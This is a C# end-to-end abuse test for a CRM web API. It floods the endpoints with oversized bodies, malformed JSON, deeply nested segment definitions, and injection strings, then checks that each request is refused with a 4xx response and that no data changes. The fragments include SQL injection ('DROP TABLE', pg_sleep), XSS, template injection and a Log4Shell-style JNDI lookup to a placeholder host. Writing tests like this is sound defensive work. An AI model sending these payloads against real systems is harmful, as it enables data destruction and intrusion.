using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Npgsql;
using Reach.Testing;

namespace Reach.EndToEnd.Tests;

/// <summary>
/// A scripted abuse run against a running CRM process: oversized bodies, wrong content types, bad JSON, huge DSL
/// nesting, SQL and script fragments in every text field (bodies, query strings, paths, headers). Every request is
/// answered 4xx with a reason (problem details), <c>/health</c> stays healthy, and no table changes (row counts and
/// content checksums of every table are equal before and after).
/// </summary>
public sealed class AbuseTests : IAsyncLifetime
{
    private static readonly string[] Fragments =
    [
        "'; DROP TABLE customers; --", "\" OR 1=1 --", "1; SELECT pg_sleep(5)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "${jndi:ldap://evil/x}", "{{7*7}}", "Robert'); DELETE FROM campaigns; --",
    ];

    private string _database = "";
    private ServiceProcess _crm = null!;

    public async ValueTask InitializeAsync()
    {
        _database = await TestPostgres.CreateDatabaseAsync("abuse");
        _crm = ServiceProcess.Create("crm", "Reach.Crm", new Dictionary<string, string>(TestUsers.Environment())
        {
            ["ConnectionStrings__reach"] = _database,
            ["Reach__Channel__SigningSecret"] = "abuse-secret",
            ["Reach__Dispatch__Enabled"] = "false",
            ["Reach__Auth__SignInPerIpPerMinute"] = "1000",
            ["Reach__Auth__CopilotPerUserPerMinute"] = "1000",
            ["Logging__LogLevel__Default"] = "Warning",
        });
        await _crm.StartAsync();
    }

    public async ValueTask DisposeAsync()
    {
        await _crm.DisposeAsync();
        await (await TestPostgres.GetAsync()).DropDatabaseAsync(_database);
    }

    [Fact]
    public async Task Every_abusive_request_gets_a_4xx_with_a_reason_the_crm_stays_healthy_and_no_data_changes()
    {
        var ct = TestContext.Current.CancellationToken;
        using var http = new HttpClient { BaseAddress = new Uri(_crm.Url), Timeout = TimeSpan.FromMinutes(1) };
        var admin = await TestUsers.SignInAsync(http, TestUsers.UserName("admin"), ct: ct);
        http.Authorize(admin);
        using (var seed = await http.PostAsync("/api/ingest/demo?customers=300&seed=7", null, ct))
        {
            Assert.True(seed.IsSuccessStatusCode, await seed.Content.ReadAsStringAsync(ct));
        }

        var segment = await PostJsonAsync(http, "/api/segments", """{"name":"Pune","definition":{"match":"all","conditions":[{"field":"city","op":"eq","value":"Pune"}]}}""", ct);
        var segmentId = segment.GetProperty("id").GetInt64();
        var campaign = await PostJsonAsync(http, "/api/campaigns", $$$"""{"name":"Target","segmentId":{{{segmentId}}},"channel":"sms","messageTemplate":"Hi {{first_name | there}}"}""", ct);
        var campaignId = campaign.GetProperty("id").GetInt64();

        var before = await SnapshotAsync(ct);
        var requests = Script(segmentId, campaignId).ToList();
        var failures = new List<string>();
        foreach (var (name, make) in requests)
        {
            using var request = make();
            // A client sending a body the server may refuse for its size asks for "100 Continue" first (RFC 9110
            // §10.1.1): the 413 then arrives before the body is sent, instead of racing a reset of the half-sent upload.
            if (request.Content?.Headers.ContentLength > 1024 * 1024)
            {
                request.Headers.ExpectContinue = true;
            }

            HttpResponseMessage response;
            try
            {
                response = await http.SendAsync(request, ct);
            }
            catch (HttpRequestException e)
            {
                failures.Add($"{name}: no answer ({e.InnerException?.Message ?? e.Message})");
                continue;
            }

            using var _ = response;
            var body = await response.Content.ReadAsStringAsync(ct);
            var status = (int)response.StatusCode;
            if (status is < 400 or > 499)
            {
                failures.Add($"{name}: {status} {Cut(body)}");
                continue;
            }

            if (response.Content.Headers.ContentType?.MediaType != "application/problem+json")
            {
                failures.Add($"{name}: {status} without problem details ({response.Content.Headers.ContentType}) {Cut(body)}");
                continue;
            }

            var problem = JsonDocument.Parse(body).RootElement;
            var reason = problem.TryGetProperty("detail", out var d) ? d.GetString() : null;
            if (string.IsNullOrWhiteSpace(problem.GetProperty("title").GetString()) || (status != 404 && string.IsNullOrWhiteSpace(reason)))
            {
                failures.Add($"{name}: {status} without a reason {Cut(body)}");
            }
        }

        Assert.True(failures.Count == 0, $"{failures.Count} of {requests.Count} requests were not refused with a reason:\n{string.Join('\n', failures)}");
        Assert.True(requests.Count > 100, $"only {requests.Count} requests");

        using var health = await http.GetAsync("/health", ct);
        Assert.Equal(HttpStatusCode.OK, health.StatusCode);
        var after = await SnapshotAsync(ct);
        Assert.Equal(before, after);
    }

    /// <summary>The abusive requests, each a name and a factory (all sent as the admin, so refusals are not just authorisation).</summary>
    private static IEnumerable<(string Name, Func<HttpRequestMessage> Make)> Script(long segmentId, long campaignId)
    {
        static HttpRequestMessage Send(string method, string path, HttpContent? content = null) => new(new HttpMethod(method), path) { Content = content };
        static StringContent Json(string json) => new(json, Encoding.UTF8, "application/json");
        static StringContent Typed(string body, string type) => new(body, Encoding.UTF8, type);
        static string Q(string s) => JsonSerializer.Serialize(s);
        static StringContent Body(object value) => Json(JsonSerializer.Serialize(value));
        var big = new string('x', 2 * 1024 * 1024);

        // Oversized bodies.
        yield return ("2 MiB segment", () => Send("POST", "/api/segments", Json($$"""{"name":"{{big}}"}""")));
        yield return ("2 MiB revise", () => Send("PUT", $"/api/segments/{segmentId}", Json($$"""{"description":"{{big}}"}""")));
        yield return ("2 MiB preview", () => Send("POST", "/api/segments/preview", Json($$"""{"match":"{{big}}"}""")));
        yield return ("2 MiB campaign", () => Send("POST", "/api/campaigns", Json($$"""{"name":"{{big}}"}""")));
        yield return ("2 MiB edit", () => Send("PUT", $"/api/campaigns/{campaignId}", Json($$"""{"name":"{{big}}"}""")));
        yield return ("2 MiB sign-in", () => Send("POST", "/api/auth/token", Json($$"""{"userName":"{{big}}"}""")));
        yield return ("2 MiB user", () => Send("POST", "/api/users", Json($$"""{"userName":"{{big}}"}""")));
        yield return ("200 KiB chat", () => Send("POST", "/api/copilot/chat", Json($$"""{"message":"{{big[..(200 * 1024)]}}"}""")));
        yield return ("chunked 2 MiB campaign", () =>
        {
            var content = new StreamContent(new MemoryStream(Encoding.UTF8.GetBytes($$"""{"name":"{{big}}"}""")));
            content.Headers.ContentType = new MediaTypeHeaderValue("application/json");
            var request = Send("POST", "/api/campaigns", content);
            request.Headers.TransferEncodingChunked = true;
            return request;
        });

        // Wrong content types.
        yield return ("text/plain segment", () => Send("POST", "/api/segments", Typed("""{"name":"x"}""", "text/plain")));
        yield return ("text revise", () => Send("PUT", $"/api/segments/{segmentId}", Typed("definition", "text/plain")));
        yield return ("xml preview", () => Send("POST", "/api/segments/preview", Typed("<match>all</match>", "application/xml")));
        yield return ("xml campaign", () => Send("POST", "/api/campaigns", Typed("<campaign/>", "text/xml")));
        yield return ("text edit", () => Send("PUT", $"/api/campaigns/{campaignId}", Typed("name=x", "text/plain")));
        yield return ("form sign-in", () => Send("POST", "/api/auth/token", Typed("userName=test-admin&password=x", "application/x-www-form-urlencoded")));
        yield return ("html user", () => Send("POST", "/api/users", Typed("<b>x</b>", "text/html")));
        yield return ("text role", () => Send("PUT", "/api/users/test-viewer/role", Typed("admin", "text/plain")));
        yield return ("text chat", () => Send("POST", "/api/copilot/chat", Typed("hello", "text/plain")));
        yield return ("xml customers", () => Send("POST", "/api/ingest/customers", Typed("<customers/>", "application/xml")));
        yield return ("png orders", () => Send("POST", "/api/ingest/orders", Typed("\u0089PNG", "image/png")));

        // Bad JSON.
        yield return ("truncated campaign", () => Send("POST", "/api/campaigns", Json("""{"name":""")));
        yield return ("braces segment", () => Send("POST", "/api/segments", Json("{{{")));
        yield return ("array sign-in", () => Send("POST", "/api/auth/token", Json("[1,2")));
        yield return ("trailing comma chat", () => Send("POST", "/api/copilot/chat", Json("""{"message":"hi",}""")));
        yield return ("number user name", () => Send("POST", "/api/users", Json("""{"userName":1,"password":2,"role":3}""")));
        yield return ("string segment id", () => Send("POST", "/api/campaigns", Json("""{"name":"x","segmentId":"1 OR 1=1","channel":"sms"}""")));
        yield return ("truncated customers", () => Send("POST", "/api/ingest/customers", Json("""[{"external_id":""")));
        yield return ("empty preview", () => Send("POST", "/api/segments/preview", Json("")));
        yield return ("null role", () => Send("PUT", "/api/users/test-viewer/role", Json("null")));

        // Huge DSL nesting and width.
        static string Nested(int depth) => string.Concat(Enumerable.Repeat("""{"match":"all","conditions":[""", depth)) + """{"field":"city","op":"eq","value":"Pune"}""" + string.Concat(Enumerable.Repeat("]}", depth));
        yield return ("10,000 levels preview", () => Send("POST", "/api/segments/preview", Json(Nested(10_000))));
        yield return ("10,000 levels segment", () => Send("POST", "/api/segments", Json($$"""{"name":"deep","definition":{{Nested(10_000)}}}""")));
        yield return ("9 levels preview", () => Send("POST", "/api/segments/preview", Json(Nested(9))));
        yield return ("9 levels segment", () => Send("POST", "/api/segments", Json($$"""{"name":"deep","definition":{{Nested(9)}}}""")));
        yield return ("5,000 conditions", () => Send("POST", "/api/segments/preview",
            Json("""{"match":"any","conditions":[""" + string.Join(',', Enumerable.Repeat("""{"field":"city","op":"eq","value":"Pune"}""", 5_000)) + "]}")));

        // SQL and script fragments in every text field.
        foreach (var f in Fragments)
        {
            var q = Uri.EscapeDataString(f);
            yield return ($"sign-in [{f}]", () => Send("POST", "/api/auth/token", Json($$"""{"userName":{{Q(f)}},"password":{{Q(f)}}}""")));
            yield return ($"segment fields [{f}]", () => Send("POST", "/api/segments", Body(new
            {
                name = f, description = f, createdVia = f,
                definition = new { match = f, conditions = new[] { new { field = f, op = f, value = f } } },
            })));
            yield return ($"segment name with bad source [{f}]", () => Send("POST", "/api/segments", Body(new
            {
                name = f, description = f, createdVia = f,
                definition = new { match = "all", conditions = new[] { new { field = "city", op = "eq", value = f } } },
            })));
            yield return ($"segment revise [{f}]", () => Send("PUT", $"/api/segments/{segmentId}", Body(new
            {
                description = f, definition = new { match = "all", conditions = new[] { new { field = f, op = "eq", value = f } } },
            })));
            yield return ($"preview op [{f}]", () => Send("POST", "/api/segments/preview", Body(new { match = "all", conditions = new[] { new { field = "city", op = f, value = f } } })));
            yield return ($"preview number [{f}]", () => Send("POST", "/api/segments/preview", Body(new { match = "all", conditions = new[] { new { field = "order_count", op = "gt", value = f } } })));
            yield return ($"campaign fields [{f}]", () => Send("POST", "/api/campaigns", Body(new
            {
                name = f, segmentId, channel = f, messageTemplate = f + "{{" + f + "}}", goal = f, channelReason = f, createdVia = f,
            })));
            yield return ($"campaign free text, missing segment [{f}]", () => Send("POST", "/api/campaigns", Body(new
            {
                name = f, segmentId = 999999, channel = "sms", messageTemplate = f, goal = f, channelReason = f,
            })));
            yield return ($"edit fields [{f}]", () => Send("PUT", $"/api/campaigns/{campaignId}", Body(new { name = f, channel = f, messageTemplate = "{{" + f + "}}", channelReason = f })));
            yield return ($"edit template [{f}]", () => Send("PUT", $"/api/campaigns/{campaignId}", Body(new { name = f, messageTemplate = "Hi {{" + f + "}}" })));
            yield return ($"user fields [{f}]", () => Send("POST", "/api/users", Json($$"""{"userName":{{Q(f)}},"password":{{Q(f)}},"role":{{Q(f)}}}""")));
            yield return ($"user role [{f}]", () => Send("PUT", $"/api/users/{q}/role", Json($$"""{"role":{{Q(f)}}}""")));
            yield return ($"chat conversation id [{f}]", () => Send("POST", "/api/copilot/chat", Json($$"""{"conversation_id":{{Q(f)}},"message":{{Q(f)}}}""")));
            yield return ($"chat unknown conversation [{f}]", () => Send("POST", "/api/copilot/chat", Json($$"""{"conversation_id":999999,"message":{{Q(f)}}}""")));
            yield return ($"chat too long [{f}]", () => Send("POST", "/api/copilot/chat", Json($$"""{"message":{{Q(string.Concat(Enumerable.Repeat(f, 4001 / f.Length + 1)))}}}""")));
            yield return ($"campaign status [{f}]", () => Send("GET", $"/api/campaigns?status={q}"));
            yield return ($"campaign channel [{f}]", () => Send("GET", $"/api/campaigns?channel={q}"));
            yield return ($"campaign limit [{f}]", () => Send("GET", $"/api/campaigns?limit={q}"));
            yield return ($"recipients stage [{f}]", () => Send("GET", $"/api/campaigns/{campaignId}/recipients?stage={q}"));
            yield return ($"campaign path [{f}]", () => Send("GET", $"/api/campaigns/{q}"));
            yield return ($"launch path [{f}]", () => Send("POST", $"/api/campaigns/{q}/launch"));
            yield return ($"segment delete path [{f}]", () => Send("DELETE", $"/api/segments/{q}"));
            yield return ($"audit entity type [{f}]", () => Send("GET", $"/api/audit?entityType={q}"));
            yield return ($"audit since [{f}]", () => Send("GET", $"/api/audit?since={q}"));
            yield return ($"audit entity id [{f}]", () => Send("GET", $"/api/audit?entityId={q}"));
            yield return ($"ingest format [{f}]", () => Send("POST", $"/api/ingest/orders?format={q}", Typed("order_id\n1\n", "text/csv")));
            yield return ($"ingest contacts [{f}]", () => Send("POST", $"/api/ingest/orders?format=online-retail&contacts={q}", Typed("x\n", "text/csv")));
            yield return ($"ingest header [{f}]", () => Send("POST", "/api/ingest/customers", Typed($"{f}\n{f}\n", "text/csv")));
            yield return ($"demo size [{f}]", () => Send("POST", $"/api/ingest/demo?customers={q}"));
            yield return ($"bearer [{f}]", () =>
            {
                var request = Send("GET", "/api/campaigns");
                request.Headers.TryAddWithoutValidation("Authorization", "Bearer " + f);
                return request;
            });
        }

    }

    /// <summary>Row count and an MD5 of the ordered rows of every table.</summary>
    private async Task<string> SnapshotAsync(CancellationToken ct)
    {
        await using var conn = new NpgsqlConnection(_database);
        await conn.OpenAsync(ct);
        var tables = new List<string>();
        await using (var list = new NpgsqlCommand("SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY tablename", conn))
        await using (var reader = await list.ExecuteReaderAsync(ct))
        {
            while (await reader.ReadAsync(ct))
            {
                tables.Add(reader.GetString(0));
            }
        }

        var lines = new StringBuilder();
        foreach (var table in tables)
        {
            await using var cmd = new NpgsqlCommand($"SELECT count(*), coalesce(md5(string_agg(t::text, '|' ORDER BY t::text)), '') FROM \"{table}\" t", conn);
            await using var reader = await cmd.ExecuteReaderAsync(ct);
            await reader.ReadAsync(ct);
            lines.AppendLine($"{table}: {reader.GetInt64(0)} rows, {reader.GetString(1)}");
        }

        Assert.Contains("customers: 300 rows", lines.ToString());
        return lines.ToString();
    }

    private async Task<JsonElement> PostJsonAsync(HttpClient http, string path, string json, CancellationToken ct)
    {
        using var response = await http.PostAsync(path, new StringContent(json, Encoding.UTF8, "application/json"), ct);
        var body = await response.Content.ReadAsStringAsync(ct);
        Assert.True(response.IsSuccessStatusCode, $"{path}: {(int)response.StatusCode} {body}\n{string.Join('\n', _crm.Output.TakeLast(20))}");
        return JsonDocument.Parse(body).RootElement.Clone();
    }

    private static string Cut(string s) => s.Length > 300 ? s[..300] + "…" : s;
}
